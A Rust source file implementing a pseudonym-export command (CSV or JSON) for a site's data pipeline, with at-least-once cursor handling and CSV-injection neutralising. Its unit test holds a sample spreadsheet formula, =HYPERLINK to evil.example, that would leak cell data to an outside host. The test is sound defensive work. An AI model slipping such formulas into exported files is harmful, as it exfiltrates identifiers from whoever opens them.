//! `ttp-agent export --config F [--format csv|json] [--output FILE] [--new | --since-seq N]`:
//! local id → pseudonym, for the site's data integration pipeline. It holds no IDAT.
//!
//! The rows come from the store's pseudonym log (see `store::psn_log`): one row per pseudonym
//! the agent obtained, in the order it obtained them, with columns `local_id`, `pseudonym`,
//! `obtained_at`, `seq`, `withdrawn` (when consent was withdrawn for the local id, empty
//! otherwise: the pseudonym stays so that the site can delete the patient's data downstream). Without a selection every pseudonym is written.
//!
//! * `--new` writes only what was obtained since the last `export --new`, and then moves the
//!   `export` cursor, but **only after the output was completely written and flushed**: a file
//!   is written to a temporary file next to it, fsynced and renamed into place; standard
//!   output is flushed. A failed write leaves the cursor where it was, so the next `--new`
//!   repeats the same rows (hand-over is at least once; `seq` identifies repeats).
//! * Every export writes only durable rows: it flushes the store first if the log grew since
//!   the last flush (`store::psn_log`, "Only durable events leave").
//! * `--since-seq N` writes the rows after sequence number `N` and leaves the cursor alone
//!   (to repeat a hand-over from a known point).
//!
//! Runs through the daemon when it runs (`crate::cli::control`): the daemon reads the log and
//! streams the rows; this command writes them (the file is the operator's) and confirms, and
//! only then does the daemon move the `--new` cursor. A command or daemon that dies in between
//! leaves the cursor where it was.

use std::io::Write;
use std::path::PathBuf;
use std::process::ExitCode;

use serde::{Deserialize, Serialize};

use super::ConfigArg;
use crate::cli::control::client::{self, OutputTarget};
use crate::cli::control::{Ctx, Session};
use crate::store::{HandoverConsumer, PsnEvent, Store};

/// Events read from the store at a time: bounded memory for any log size.
const PAGE: usize = 10_000;

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Format {
    Csv,
    Json,
}

#[derive(Debug, clap::Args)]
pub struct Args {
    #[command(flatten)]
    config: ConfigArg,
    #[arg(long, value_enum, default_value = "csv")]
    format: Format,
    /// Write to this file (replaced atomically) instead of standard output.
    #[arg(long, short = 'o')]
    output: Option<PathBuf>,
    /// Only pseudonyms obtained since the last `export --new`; moves that mark forward once
    /// the output is written.
    #[arg(long, conflicts_with = "since_seq")]
    new: bool,
    /// Only pseudonyms with a sequence number above N (the `seq` column); does not move the
    /// `--new` mark.
    #[arg(long, value_name = "N")]
    since_seq: Option<u64>,
}

/// `export`, as the daemon receives it (the output file stays the command's).
#[derive(Debug, Serialize, Deserialize)]
pub struct Request {
    pub format: Format,
    pub new: bool,
    pub since_seq: Option<u64>,
}

pub fn run(args: Args) -> anyhow::Result<ExitCode> {
    let config = client::load_config(&args.config)?;
    let request = crate::cli::control::Request::Export(Request {
        format: args.format,
        new: args.new,
        since_seq: args.since_seq,
    });
    let target = match args.output {
        Some(path) => OutputTarget::File {
            path,
            replace: true,
        },
        None => OutputTarget::Stdout,
    };
    client::run(config, request, None, target, None)
}

pub fn apply(req: Request, ctx: &Ctx, io: &mut dyn Session) -> anyhow::Result<u8> {
    let store = &ctx.store;
    let after = match (req.new, req.since_seq) {
        (true, _) => store.export_cursor(HandoverConsumer::Export)?,
        (false, Some(n)) => n,
        (false, None) => 0,
    };
    // Only durable rows leave (`store::psn_log`): a row not yet flushed could be lost to a
    // crash after the file was handed on, and its `seq` given to another pseudonym.
    let through = store.durable_pseudonym_log_head()?;
    let summary = write_events(store, after, through, req.format, io.output())?;
    io.commit_output()?;
    if req.new
        && let Some(last) = summary.last_seq
    {
        store.set_export_cursor(HandoverConsumer::Export, last)?;
        store.flush()?;
    }
    io.note(&format!(
        "{} pseudonym(s) exported{}",
        summary.rows,
        summary
            .last_seq
            .map_or(String::new(), |s| format!(" (up to seq {s})"))
    ));
    Ok(0)
}

/// What [`write_events`] wrote.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ExportSummary {
    pub rows: u64,
    /// The sequence number of the last row, if any.
    pub last_seq: Option<u64>,
}

/// Writes every event after `after` up to `through` (the durable head) in `format`, page by
/// page. The writer is not flushed.
pub fn write_events(
    store: &Store,
    after: u64,
    through: u64,
    format: Format,
    w: &mut dyn Write,
) -> anyhow::Result<ExportSummary> {
    let mut summary = ExportSummary::default();
    // Withdrawals are few; the column tells the site which pseudonyms to delete downstream.
    let withdrawn: std::collections::HashMap<String, String> = store
        .withdrawals()?
        .into_iter()
        .map(|w| {
            let at = w.at.to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
            (w.local_id, at)
        })
        .collect();
    let mut sink = match format {
        Format::Csv => {
            let mut c = csv::Writer::from_writer(w);
            c.write_record(["local_id", "pseudonym", "obtained_at", "seq", "withdrawn"])?;
            Sink::Csv(Box::new(c))
        }
        Format::Json => Sink::Json(JsonArray::begin(w)?),
    };
    let mut cursor = after;
    loop {
        let count = crate::store::handover_window(cursor, through, PAGE);
        if count == 0 {
            break;
        }
        let page = store.pseudonym_events_after(cursor, count)?;
        let Some(last) = page.last() else { break };
        cursor = last.seq;
        for e in &page {
            let withdrawn_at = withdrawn.get(&e.local_id);
            match &mut sink {
                Sink::Csv(c) => c.write_record([
                    &*spreadsheet_safe(&e.local_id),
                    &*spreadsheet_safe(&e.pseudonym),
                    &obtained_at(e),
                    &e.seq.to_string(),
                    withdrawn_at.map_or("", String::as_str),
                ])?,
                Sink::Json(j) => j.item(&serde_json::json!({
                    "local_id": e.local_id,
                    "pseudonym": e.pseudonym,
                    "obtained_at": obtained_at(e),
                    "seq": e.seq,
                    "withdrawn": withdrawn_at,
                }))?,
            }
            summary.rows += 1;
            summary.last_seq = Some(e.seq);
        }
    }
    match sink {
        Sink::Csv(mut c) => c.flush()?,
        Sink::Json(j) => j.end()?,
    }
    Ok(summary)
}

/// A CSV cell as a spreadsheet will not evaluate it. A cell starting with `=`, `+`, `-` or
/// `@` is a formula to Excel and LibreOffice (`=HYPERLINK(...)` sends data elsewhere when
/// clicked), and a leading tab or carriage return can hide such a start; pseudonyms come from
/// the dispatcher, local ids from the site's own input. Such a cell gets a leading `'`, which
/// spreadsheets show as text (the OWASP advice for CSV injection). Other cells, and every cell
/// of the JSON export, are written as they are.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

enum Sink<'w> {
    Csv(Box<csv::Writer<&'w mut dyn Write>>),
    Json(JsonArray<'w>),
}

fn obtained_at(e: &PsnEvent) -> String {
    e.obtained_at
        .to_rfc3339_opts(chrono::SecondsFormat::Millis, true)
}

/// A JSON array written one element at a time, so a large export is never held in memory.
struct JsonArray<'w> {
    w: &'w mut dyn Write,
    first: bool,
}

impl<'w> JsonArray<'w> {
    fn begin(w: &'w mut dyn Write) -> std::io::Result<JsonArray<'w>> {
        w.write_all(b"[")?;
        Ok(JsonArray { w, first: true })
    }

    fn item(&mut self, v: &serde_json::Value) -> anyhow::Result<()> {
        self.w
            .write_all(if self.first { b"\n  " } else { b",\n  " })?;
        self.first = false;
        serde_json::to_writer(&mut *self.w, v)?;
        Ok(())
    }

    fn end(self) -> std::io::Result<()> {
        self.w.write_all(if self.first { b"]\n" } else { b"\n]\n" })
    }
}

#[cfg(test)]
mod tests {
    use super::spreadsheet_safe;

    #[test]
    fn cells_a_spreadsheet_would_evaluate_are_neutralised_and_others_kept() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"open\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
        }
        for plain in ["mii_6348Q7", "case-00001", "0815", "", "a=b"] {
            assert_eq!(spreadsheet_safe(plain), plain);
        }
    }
}
